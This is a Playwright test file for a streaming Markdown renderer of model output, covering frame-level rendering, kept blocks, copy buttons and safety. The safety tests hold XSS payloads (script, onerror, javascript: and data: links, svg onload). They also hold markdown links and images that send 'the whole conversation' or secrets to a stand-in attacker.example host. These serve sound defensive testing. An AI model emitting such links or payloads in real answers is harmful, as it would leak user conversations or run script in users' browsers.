import { expect, test } from '@playwright/test';

// The streaming Markdown renderer in the real DOM: cost per frame, kept blocks, and safety.
test.beforeEach(async ({ page }) => {
  await page.goto('/test/e2e/pages/markdown.html');
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
});

test('appending tokens re-renders only the open block, at most once per frame; finished blocks are kept', async ({ page }) => {
  const result = await page.evaluate(async () => {
    const { md, out, nextFrame } = window.mdTest;
    md.append('# Title\n\nFirst paragraph.\n\n');
    await nextFrame();
    await nextFrame();
    const heading = out.querySelector('h1');
    const before = { ...md.stats };
    // 2000 tokens in one task: one frame later there must have been exactly one render.
    for (let i = 0; i < 2000; i++) md.append(`word${i} `);
    const rendersBeforeFrame = md.stats.openBlockRenders - before.openBlockRenders;
    await nextFrame();
    await nextFrame();
    const rendersAfterFrame = md.stats.openBlockRenders - before.openBlockRenders;
    // "First paragraph." is now finished (a block follows it): its node must survive later appends.
    const first = out.querySelector('p');
    md.append('\n\nThird block.');
    await nextFrame();
    await nextFrame();
    return {
      rendersBeforeFrame,
      rendersAfterFrame,
      sameHeading: out.querySelector('h1') === heading,
      sameFirst: out.querySelector('p') === first,
      committed: md.stats.committedBlocks,
      paragraphs: [...out.querySelectorAll('p')].map((p) => p.textContent!.slice(0, 20)),
      lastWord: out.querySelectorAll('p')[1]!.textContent!.trim().split(' ').at(-1),
    };
  });
  expect(result.rendersBeforeFrame).toBe(0);
  expect(result.rendersAfterFrame).toBe(1);
  expect(result.sameHeading).toBe(true);
  expect(result.sameFirst).toBe(true);
  expect(result.committed).toBe(3); // heading, first paragraph, the long paragraph
  expect(result.paragraphs).toEqual(['First paragraph.', 'word0 word1 word2 wo', 'Third block.']);
  expect(result.lastWord).toBe('word1999');
});

test('a long stream (20k tokens in many blocks) keeps each frame\'s lexing to the open block', async ({ page }) => {
  const r = await page.evaluate(async () => {
    const { md, out, nextFrame } = window.mdTest;
    let sent = 0;
    let chars = 0;
    for (let block = 0; block < 400; block++) {
      for (let i = 0; i < 50; i++) {
        const token = i === 49 ? ` end${block}.\n\n` : ` w${i}`;
        md.append(token);
        chars += token.length;
        sent++;
      }
      if (block % 10 === 0) await nextFrame();
    }
    md.flush();
    return { sent, chars, lexed: md.stats.lexedChars, renders: md.stats.openBlockRenders, paragraphs: out.querySelectorAll('p').length };
  });
  expect(r.sent).toBe(20000);
  expect(r.paragraphs).toBe(400);
  // Without block commits every render would re-lex everything so far (≈ renders × chars / 2).
  expect(r.lexed).toBeLessThan(r.chars * 3);
});

test('model text cannot create markup, scripts, handlers, images or unsafe links', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (req) => requests.push(req.url()));
  let dialogs = 0;
  page.on('dialog', (d) => {
    dialogs++;
    void d.dismiss();
  });
  const payload = [
    '<script>alert(1)</script>', '<img src=x onerror="alert(2)">', '<iframe src="javascript:alert(3)"></iframe>',
    '<style>body{display:none}</style>', '<a href="javascript:alert(4)">html link</a>', '[md link](javascript:alert(5))',
    '[enc](&#106;avascript:alert(6))', '![img](https://attacker.example/pixel.png)', '<svg onload=alert(7)>',
    '<details open ontoggle=alert(8)>', '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)',
    '```html\n<script>alert(10)</script>\n```', '<b onmouseover=alert(11)>hover</b>', '[ok](https://example.com/safe)',
  ].join('\n\n');
  const r = await page.evaluate(async (text) => {
    const { md, out } = window.mdTest;
    for (const chunk of text.match(/[\s\S]{1,7}/g)!) md.append(chunk);
    md.flush();
    await new Promise((res) => setTimeout(res, 200));
    const all = [...out.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map((e) => e.localName))].sort(),
      onAttributes: all.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.localName}.${a.name}`)),
      hrefs: [...out.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), target: a.getAttribute('target') })),
      text: out.textContent,
    };
  }, payload);
  expect(dialogs).toBe(0);
  expect(requests.filter((u) => u.includes('attacker.example'))).toEqual([]);
  expect(r.onAttributes).toEqual([]);
  for (const tag of ['script', 'iframe', 'style', 'img', 'svg', 'details', 'b']) expect(r.tags).not.toContain(tag);
  expect(r.hrefs).toEqual([
    { href: 'https://attacker.example/pixel.png', rel: 'noopener noreferrer', target: '_blank' },
    { href: 'https://example.com/safe', rel: 'noopener noreferrer', target: '_blank' },
  ]);
  // The payloads are visible as text, so the user can see what the model wrote.
  expect(r.text).toContain('<script>alert(1)</script>');
  expect(r.text).toContain('<img src=x onerror="alert(2)">');
});

test('every link and image link shows where it really goes, next to its text: a friendly label cannot hide the address or its query string', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (req) => requests.push(req.url()));
  const answer = 'See [the official docs](https://attacker.example/collect?c=the%20whole%20conversation) and ![the chart](https://attacker.example/p.png?d=secret), or [mail us](mailto:help@attacker.example?body=secret). Plain: <https://example.com/plain>.';
  const r = await page.evaluate(async (text) => {
    const { md, out } = window.mdTest;
    for (const chunk of text.match(/[\s\S]{1,5}/g)!) md.append(chunk);
    md.flush();
    await new Promise((res) => setTimeout(res, 100));
    return { text: (out as HTMLElement).innerText, links: [...out.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]) };
  }, answer);
  // What the reader sees, without hovering anything.
  expect(r.text).toContain('the official docs (https://attacker.example/collect?c=the%20whole%20conversation)');
  expect(r.text).toContain('image: the chart (https://attacker.example/p.png?d=secret)');
  expect(r.text).toContain('mail us (mailto:help@attacker.example?body=secret)');
  // An address that is its own label is not repeated.
  expect(r.text).toContain('Plain: https://example.com/plain.');
  expect(r.links).toEqual([
    ['the official docs', 'https://attacker.example/collect?c=the%20whole%20conversation'],
    ['image: the chart', 'https://attacker.example/p.png?d=secret'],
    ['mail us', 'mailto:help@attacker.example?body=secret'],
    ['https://example.com/plain', 'https://example.com/plain'],
  ]);
  expect(requests.filter((u) => u.includes('attacker.example'))).toEqual([]);
});

test('code blocks have a copy button that copies the code', async ({ page }) => {
  await page.evaluate(() => {
    window.mdTest.md.append('```python\nprint("hi")\n```\n');
    window.mdTest.md.flush();
  });
  const button = page.locator('button.copy-code');
  await expect(button).toHaveAccessibleName('Copy code');
  await button.click();
  await expect(button).toHaveText('Copied ✓');
  expect(await page.evaluate(() => window.mdTest.copied)).toEqual(['print("hi")']);
});

test('CRLF split across chunks, and a replaced (non-extending) text, render correctly', async ({ page }) => {
  const r = await page.evaluate(() => {
    const { md, out } = window.mdTest;
    md.append('line one\r');
    md.append('\n\r\nnext para');
    md.flush();
    const first = [...out.querySelectorAll('p')].map((p) => p.textContent);
    md.set('Completely different');
    md.flush();
    return { first, second: [...out.querySelectorAll('p')].map((p) => p.textContent) };
  });
  expect(r.first).toEqual(['line one', 'next para']);
  expect(r.second).toEqual(['Completely different']);
});
